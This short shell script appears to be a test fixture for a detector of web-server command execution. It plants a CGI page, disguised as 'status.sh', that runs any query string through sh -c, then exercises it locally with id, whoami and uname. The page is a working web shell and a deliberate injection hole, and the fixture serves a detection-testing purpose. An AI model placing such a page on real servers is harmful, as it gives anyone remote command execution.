#!/bin/sh
# A page of a web server runs commands for whoever asks.
# expects: execution_web_server_shell 3

mkdir /srv/www/cgi-bin
cat > /srv/www/cgi-bin/status.sh << 'PAGE'
#!/bin/sh
printf 'Content-Type: text/plain\n\n'
sh -c "$QUERY_STRING"
PAGE
chmod +x /srv/www/cgi-bin/status.sh
httpd -p 127.0.0.1:8080 -h /srv/www
for command in id whoami uname; do
  wget -q -O- "http://127.0.0.1:8080/cgi-bin/status.sh?$command"
done
